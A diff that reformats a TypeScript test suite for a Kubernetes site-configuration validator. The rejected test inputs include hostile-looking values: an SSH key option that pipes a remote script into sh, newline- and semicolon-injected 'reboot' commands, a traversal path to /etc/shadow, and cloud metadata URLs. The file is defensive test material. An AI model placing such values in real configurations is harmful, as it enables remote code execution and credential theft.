@@ -11,8 +11,10 @@ test.before(async () => {
 
 /** Public keys made with ssh-keygen for these tests (no private half exists anywhere). */
 const ED25519 = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP2CZbC4Nz6tGjrc0SySpzV45OvlYUm5FaslabzRehST alice@laptop';
-const ECDSA = 'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHoy53hqOzUb6GrSacUe6Y9GGvU5D+zXYrZPMA8YBrPmsRvgKsyHf4vqu7pLmoDB+OWDTocAwnoZF+zQ0VJjs4s= ops key';
-const RSA = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC9fZYcYeECxla59gdLYf18ftiBRqpQWp/lzNzKEowYs3jVEkLsbKx/7+4pb5vuvAziS6LEbs+IEQFMxfEaiDsunTMtTH+giFWJvTAhL81+Ic3vQ3Dyf/Q0G7jGbMolBK38FHFVV6YvaR0YD7irgug3qRHIknzB9oMH6ptBMfWlF9LvZYNsb0Ncs6hamwOvqNcmISkQ6+Qne0TG7jqsBbPBnVA5v8KMEL672WRXrABrTaakTb6OPRT3oU1QcKe330eXXAH6ZorK57jo2sXI1JsdiN/ZdKekK6HPrMZ18kGKb7I90L3GWwsXNOmlh1L1WNlCRLGyz7d3CIlPPxf6WNvT';
+const ECDSA =
+  'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHoy53hqOzUb6GrSacUe6Y9GGvU5D+zXYrZPMA8YBrPmsRvgKsyHf4vqu7pLmoDB+OWDTocAwnoZF+zQ0VJjs4s= ops key';
+const RSA =
+  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC9fZYcYeECxla59gdLYf18ftiBRqpQWp/lzNzKEowYs3jVEkLsbKx/7+4pb5vuvAziS6LEbs+IEQFMxfEaiDsunTMtTH+giFWJvTAhL81+Ic3vQ3Dyf/Q0G7jGbMolBK38FHFVV6YvaR0YD7irgug3qRHIknzB9oMH6ptBMfWlF9LvZYNsb0Ncs6hamwOvqNcmISkQ6+Qne0TG7jqsBbPBnVA5v8KMEL672WRXrABrTaakTb6OPRT3oU1QcKe330eXXAH6ZorK57jo2sXI1JsdiN/ZdKekK6HPrMZ18kGKb7I90L3GWwsXNOmlh1L1WNlCRLGyz7d3CIlPPxf6WNvT';
 const ED25519_BODY = ED25519.split(' ')[1]!;
 
 type Case = { mutate: (s: WrittenSite) => void; path: string; severity?: 'error' | 'warning'; catalog?: (c: Catalog) => Catalog };
@@ -26,9 +28,15 @@ const CASES: Record<string, Case[]> = {
     { mutate: (s) => (node(s, 2).address = '10.77.0.300/24'), path: 'spec.nodes[2].address' },
     { mutate: (s) => (node(s, 0).address = '192.168.93.255/24'), path: 'spec.nodes[0].address' },
     { mutate: (s) => (node(s, 0).address = '192.168.93.45/31'), path: 'spec.nodes[0].address' },
-    ...['127.0.0.5/8', '0.1.2.3/24', '169.254.3.4/16', '224.1.2.3/24', '239.255.255.250/24', '240.0.0.5/24', '254.1.2.3/16'].map((address) => ({ mutate: (s: WrittenSite) => (node(s, 0).address = address), path: 'spec.nodes[0].address' })),
+    ...['127.0.0.5/8', '0.1.2.3/24', '169.254.3.4/16', '224.1.2.3/24', '239.255.255.250/24', '240.0.0.5/24', '254.1.2.3/16'].map((address) => ({
+      mutate: (s: WrittenSite) => (node(s, 0).address = address),
+      path: 'spec.nodes[0].address',
+    })),
   ],
-  'mac-unicast': ['ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:fb', '33:33:00:00:00:01', '00:00:00:00:00:00'].map((mac) => ({ mutate: (s: WrittenSite) => (node(s, 1).mac = mac), path: 'spec.nodes[1].mac' })),
+  'mac-unicast': ['ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:fb', '33:33:00:00:00:01', '00:00:00:00:00:00'].map((mac) => ({
+    mutate: (s: WrittenSite) => (node(s, 1).mac = mac),
+    path: 'spec.nodes[1].mac',
+  })),
   'node-roles-unique': [{ mutate: (s) => (node(s, 1).roles = ['worker', 'etcd', 'worker']), path: 'spec.nodes[1].roles[2]' }],
   'node-address-unique': [{ mutate: (s) => (node(s, 1).address = '192.168.93.45/24'), path: 'spec.nodes[1].address' }],
   'gateway-in-subnet': [
@@ -38,7 +46,10 @@ const CASES: Record<string, Case[]> = {
   ],
   'dns-servers-valid': [
     { mutate: (s) => (node(s, 0).dns = ['192.168.93.1', 'ns.local']), path: 'spec.nodes[0].dns[1]' },
-    ...['0.0.0.0', '255.255.255.255', '224.0.0.251'].map((d) => ({ mutate: (s: WrittenSite) => (node(s, 0).dns = ['192.168.93.1', d]), path: 'spec.nodes[0].dns[1]' })),
+    ...['0.0.0.0', '255.255.255.255', '224.0.0.251'].map((d) => ({
+      mutate: (s: WrittenSite) => (node(s, 0).dns = ['192.168.93.1', d]),
+      path: 'spec.nodes[0].dns[1]',
+    })),
   ],
   'mac-unique': [{ mutate: (s) => (node(s, 2).mac = '52:54:00:93:00:45'), path: 'spec.nodes[2].mac' }],
   'cluster-cidrs-valid': [
@@ -78,18 +89,34 @@ const CASES: Record<string, Case[]> = {
   'sources-known': [
     { mutate: (s) => (s.spec.artifacts.sources = { kubernets: 'http://mirror.local' }), path: 'spec.artifacts.sources.kubernets' },
     { mutate: (s) => (s.spec.artifacts.sources = { kubernetes: 'mirror.local' }), path: 'spec.artifacts.sources.kubernetes' },
-    ...['file:///etc/kubernetes', 'gopher://mirror.local/', 'http://user:secret@mirror.local/k8s', 'http://169.254.169.254/latest/meta-data/', 'http://[fe80::1]/', 'http://metadata.google.internal/'].map((url) => ({
+    ...[
+      'file:///etc/kubernetes',
+      'gopher://mirror.local/',
+      'http://user:secret@mirror.local/k8s',
+      'http://169.254.169.254/latest/meta-data/',
+      'http://[fe80::1]/',
+      'http://metadata.google.internal/',
+    ].map((url) => ({
       mutate: (s: WrittenSite) => (s.spec.artifacts.sources = { kubernetes: url }),
       path: 'spec.artifacts.sources.kubernetes',
     })),
   ],
   'registry-mirrors-valid': [
     { mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'ftp://x' }), path: 'spec.artifacts.registryMirrors.registry.k8s.io' },
-    { mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'https://robot:token@registry.local' }), path: 'spec.artifacts.registryMirrors.registry.k8s.io' },
+    {
+      mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'https://robot:token@registry.local' }),
+      path: 'spec.artifacts.registryMirrors.registry.k8s.io',
+    },
   ],
   'node-registry-mirrors-valid': [
-    { mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['registry.local:5000'] } }), path: 'spec.containerRuntime.registryMirrors.docker.io[0]' },
-    { mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'Docker Hub': ['https://registry.local:5000'] } }), path: 'spec.containerRuntime.registryMirrors.Docker Hub' },
+    {
+      mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['registry.local:5000'] } }),
+      path: 'spec.containerRuntime.registryMirrors.docker.io[0]',
+    },
+    {
+      mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'Docker Hub': ['https://registry.local:5000'] } }),
+      path: 'spec.containerRuntime.registryMirrors.Docker Hub',
+    },
   ],
   'durations-parse': [
     { mutate: (s) => (s.spec.pki.caValidity = '10y'), path: 'spec.pki.caValidity' },
@@ -103,10 +130,22 @@ const CASES: Record<string, Case[]> = {
     { mutate: (s) => Object.assign(s.spec.network, { plugin: 'calico' }) && (s.spec.kubernetes.podCIDR = '172.30.0.0/23'), path: 'spec.kubernetes.podCIDR' },
     { mutate: (s) => Object.assign(s.spec.kubernetes, { mode: 'kubeadm', podCIDR: '172.30.0.0/23' }), path: 'spec.kubernetes.podCIDR' },
   ],
-  'cluster-domain-valid': ['-bad..domain-', 'Cluster.Local', 'cluster.local.', 'a b', 'cluster.local\nx', ''].map((d) => ({ mutate: (s: WrittenSite) => (s.spec.kubernetes.clusterDomain = d), path: 'spec.kubernetes.clusterDomain' })),
-  'interface-name-valid': ['eth0; reboot', 'a-very-long-interface', '..', 'eth0/1'].map((name) => ({ mutate: (s: WrittenSite) => (s.spec.network.interface = name), path: 'spec.network.interface' })),
-  'ntp-servers-valid': ['10.0.0.1 iburst\nallow all', '127.0.0.1', '224.0.1.1', 'ntp..site', '-ntp.site', 'ntp.site iburst', '10.0.0'].map((server) => ({ mutate: (s: WrittenSite) => (s.spec.os.ntpServers = ['192.168.93.1', server]), path: 'spec.os.ntpServers[1]' })),
-  'timezone-valid': ['../../../etc/shadow', '/etc/localtime', 'europe/berlin', 'utc', 'Mars/Olympus_Mons', 'UTC\nreboot', ''].map((tz) => ({ mutate: (s: WrittenSite) => (s.spec.os.timezone = tz), path: 'spec.os.timezone' })),
+  'cluster-domain-valid': ['-bad..domain-', 'Cluster.Local', 'cluster.local.', 'a b', 'cluster.local\nx', ''].map((d) => ({
+    mutate: (s: WrittenSite) => (s.spec.kubernetes.clusterDomain = d),
+    path: 'spec.kubernetes.clusterDomain',
+  })),
+  'interface-name-valid': ['eth0; reboot', 'a-very-long-interface', '..', 'eth0/1'].map((name) => ({
+    mutate: (s: WrittenSite) => (s.spec.network.interface = name),
+    path: 'spec.network.interface',
+  })),
+  'ntp-servers-valid': ['10.0.0.1 iburst\nallow all', '127.0.0.1', '224.0.1.1', 'ntp..site', '-ntp.site', 'ntp.site iburst', '10.0.0'].map((server) => ({
+    mutate: (s: WrittenSite) => (s.spec.os.ntpServers = ['192.168.93.1', server]),
+    path: 'spec.os.ntpServers[1]',
+  })),
+  'timezone-valid': ['../../../etc/shadow', '/etc/localtime', 'europe/berlin', 'utc', 'Mars/Olympus_Mons', 'UTC\nreboot', ''].map((tz) => ({
+    mutate: (s: WrittenSite) => (s.spec.os.timezone = tz),
+    path: 'spec.os.timezone',
+  })),
   'ssh-keys-valid': [
     'not a key',
     'ssh-ed25519',
@@ -124,9 +163,15 @@ const CASES: Record<string, Case[]> = {
   'egress-inside-site': [
     { mutate: (s) => (s.spec.os.ntpServers = ['0.debian.pool.ntp.org']), path: 'spec.os.ntpServers[0]' },
     { mutate: (s) => (s.spec.os.ntpServers = ['time.google.com']), path: 'spec.os.ntpServers[0]' },
-    { mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['https://registry-1.docker.io'] } }), path: 'spec.containerRuntime.registryMirrors.docker.io[0]' },
+    {
+      mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['https://registry-1.docker.io'] } }),
+      path: 'spec.containerRuntime.registryMirrors.docker.io[0]',
+    },
     { mutate: (s) => (s.spec.kubernetes.clusterDomain = 'cluster.github.com'), path: 'spec.kubernetes.clusterDomain' },
-    { mutate: (s) => (s.spec.os.sshAuthorizedKeys = [`command="curl -s https://raw.githubusercontent.com/x | sh" ${ED25519}`]), path: 'spec.os.sshAuthorizedKeys[0]' },
+    {
+      mutate: (s) => (s.spec.os.sshAuthorizedKeys = [`command="curl -s https://raw.githubusercontent.com/x | sh" ${ED25519}`]),
+      path: 'spec.os.sshAuthorizedKeys[0]',
+    },
   ],
   'cgroup-v2-old-kubernetes': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2'), path: 'spec.os', severity: 'warning' }],
   'cgroup-v1-refused': [{ mutate: (s) => (s.spec.os.cgroupVersion = 1), path: 'spec.os.cgroupVersion' }],
@@ -159,22 +204,45 @@ const CASES: Record<string, Case[]> = {
     {
       mutate: () => {},
       path: 'spec.kubernetes.version',
-      catalog: (c) => ({ ...c, releases: c.releases.map((r) => (r.version === 'v1.37.1' ? { ...r, knownBad: { reason: 'the pause image named here does not exist', hint: 'use another release' } } : r)) }),
+      catalog: (c) => ({
+        ...c,
+        releases: c.releases.map((r) =>
+          r.version === 'v1.37.1' ? { ...r, knownBad: { reason: 'the pause image named here does not exist', hint: 'use another release' } } : r,
+        ),
+      }),
     },
   ],
   'proxy-mode-supported': [
-    { mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2') && (s.spec.kubernetes.proxyMode = 'nftables'), path: 'spec.kubernetes.proxyMode' },
+    {
+      mutate: (s) => {
+        s.spec.kubernetes.version = 'v1.20.2';
+        s.spec.kubernetes.proxyMode = 'nftables';
+      },
+      path: 'spec.kubernetes.proxyMode',
+    },
     { mutate: (s) => (s.spec.kubernetes.proxyMode = 'ipvs'), path: 'spec.kubernetes.proxyMode', severity: 'warning' },
   ],
   'registry-mirrors-ignored': [
-    { mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2') && (s.spec.containerRuntime.registryMirrors = { 'docker.io': ['https://registry.site.internal:5000'] }), path: 'spec.containerRuntime.registryMirrors', severity: 'warning' },
+    {
+      mutate: (s) => {
+        s.spec.kubernetes.version = 'v1.20.2';
+        s.spec.containerRuntime.registryMirrors = { 'docker.io': ['https://registry.site.internal:5000'] };
+      },
+      path: 'spec.containerRuntime.registryMirrors',
+      severity: 'warning',
+    },
   ],
   'containerd-glibc': [
     {
       mutate: (s) => (s.spec.os.family = 'rhel'),
       path: 'spec.os.family',
       severity: 'warning',
-      catalog: (c) => ({ ...c, releases: c.releases.map((r) => (r.version === 'v1.37.1' ? { ...r, versions: Object.fromEntries(Object.entries(r.versions).filter(([k]) => k !== 'containerd-static')) } : r)) }),
+      catalog: (c) => ({
+        ...c,
+        releases: c.releases.map((r) =>
+          r.version === 'v1.37.1' ? { ...r, versions: Object.fromEntries(Object.entries(r.versions).filter(([k]) => k !== 'containerd-static')) } : r,
+        ),
+      }),
     },
   ],
   'addon-retired': [
@@ -190,7 +258,14 @@ test('lab1 breaks no rule', (t) => {
 
 test('what the input rules accept: real keys with options and comments, tz names, host names, unicast addresses', (t) => {
   const site = lab1();
-  site.spec.os.sshAuthorizedKeys = [ED25519, ECDSA, RSA, `from="10.0.0.0/8,192.168.93.*",no-pty,command="/usr/bin/uptime" ${ED25519}`, `restrict,pty ${ECDSA}`, `${ED25519} alice@github.com at work`];
+  site.spec.os.sshAuthorizedKeys = [
+    ED25519,
+    ECDSA,
+    RSA,
+    `from="10.0.0.0/8,192.168.93.*",no-pty,command="/usr/bin/uptime" ${ED25519}`,
+    `restrict,pty ${ECDSA}`,
+    `${ED25519} alice@github.com at work`,
+  ];
   site.spec.os.ntpServers = ['192.168.93.1', 'ntp.site.internal', 'NTP1.Site.Internal'];
   site.spec.kubernetes.clusterDomain = 'k8s.site-1.internal';
   site.spec.network.interface = 'enp1s0.100';
@@ -202,7 +277,10 @@ test('what the input rules accept: real keys with options and comments, tz names
   }
   node(site, 1).address = '10.1.2.3/8';
   node(site, 1).gateway = '10.0.0.1';
-  t.deepEqual(checkRules({ site, catalog, today: TODAY }).filter((i) => i.rule === 'node-address-valid'), []);
+  t.deepEqual(
+    checkRules({ site, catalog, today: TODAY }).filter((i) => i.rule === 'node-address-valid'),
+    [],
+  );
 });
 
 test('no issue message repeats a password from a URL', (t) => {
@@ -244,11 +322,22 @@ test('rule addons-in-catalog reports an add-on whose images the catalog lacks', 
   const site = lab1();
   site.spec.addons = ['coredns', 'dashboard'];
   site.spec.network.plugin = 'calico';
-  const stripped: Catalog = { ...catalog, releases: catalog.releases.map((r) => ({ ...r, images: r.images.filter((im) => !im.when.addon?.startsWith('dash') && im.when.addon !== 'headlamp' && !im.when.network) })) };
+  const stripped: Catalog = {
+    ...catalog,
+    releases: catalog.releases.map((r) => ({
+      ...r,
+      images: r.images.filter((im) => !im.when.addon?.startsWith('dash') && im.when.addon !== 'headlamp' && !im.when.network),
+    })),
+  };
   const issues = checkRules({ site, catalog: stripped, today: TODAY }).filter((x) => x.rule === 'addons-in-catalog');
   t.deepEqual(issues.map((x) => x.path).sort(), ['spec.addons[1]', 'spec.network.plugin']);
   site.spec.network.plugin = 'bridge';
-  t.deepEqual(checkRules({ site, catalog: stripped, today: TODAY }).filter((x) => x.rule === 'addons-in-catalog').map((x) => x.path), ['spec.addons[1]']);
+  t.deepEqual(
+    checkRules({ site, catalog: stripped, today: TODAY })
+      .filter((x) => x.rule === 'addons-in-catalog')
+      .map((x) => x.path),
+    ['spec.addons[1]'],
+  );
 });
 
 test('an even etcd count is only a warning; an odd one is silent', (t) => {
@@ -273,7 +362,10 @@ test('a node subnet overlapping another node subnet is reported once, at the lat
   node(site, 2).address = '10.1.2.7/24';
   node(site, 2).gateway = '10.1.2.1';
   const issues = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'cidrs-disjoint');
-  t.deepEqual(issues.map((x) => x.path), ['spec.nodes[2].address']);
+  t.deepEqual(
+    issues.map((x) => x.path),
+    ['spec.nodes[2].address'],
+  );
 });
 
 test('end of life: silent beyond 60 days, a countdown within them, past it a warning naming the newest supported minor', (t) => {
@@ -301,17 +393,26 @@ test('a known-bad release is an error whatever the date; a release of a minor wi
   const site = lab1();
   const bad: Catalog = { ...catalog, releases: catalog.releases.map((r) => (r.version === 'v1.37.1' ? { ...r, knownBad: { reason: 'r', hint: 'h' } } : r)) };
   const issues = checkRules({ site, catalog: bad, today: TODAY }).filter((x) => x.rule === 'release-known-bad');
-  t.deepEqual(issues.map((x) => [x.severity, x.hint]), [['error', 'h']]);
+  t.deepEqual(
+    issues.map((x) => [x.severity, x.hint]),
+    [['error', 'h']],
+  );
   const noLife: Catalog = { ...catalog, lifecycle: {} };
   site.spec.kubernetes.version = 'v1.34.2';
-  t.deepEqual(checkRules({ site, catalog: noLife, today: TODAY }).filter((x) => x.rule === 'release-end-of-life'), []);
+  t.deepEqual(
+    checkRules({ site, catalog: noLife, today: TODAY }).filter((x) => x.rule === 'release-end-of-life'),
+    [],
+  );
 });
 
 test('dashboard: kept where the release still carries it, headlamp in its place where it does not; a warning either way', (t) => {
   const site = lab1();
   site.spec.addons = ['coredns', 'dashboard'];
   const now = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'addon-retired' || x.rule === 'addons-in-catalog');
-  t.deepEqual(now.map((x) => [x.rule, x.severity]), [['addon-retired', 'warning']]);
+  t.deepEqual(
+    now.map((x) => [x.rule, x.severity]),
+    [['addon-retired', 'warning']],
+  );
   t.regex(now[0]!.message, /archived in January 2026: v1\.37\.1 installs headlamp in its place/);
   site.spec.kubernetes.version = 'v1.34.2';
   const old = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'addon-retired');
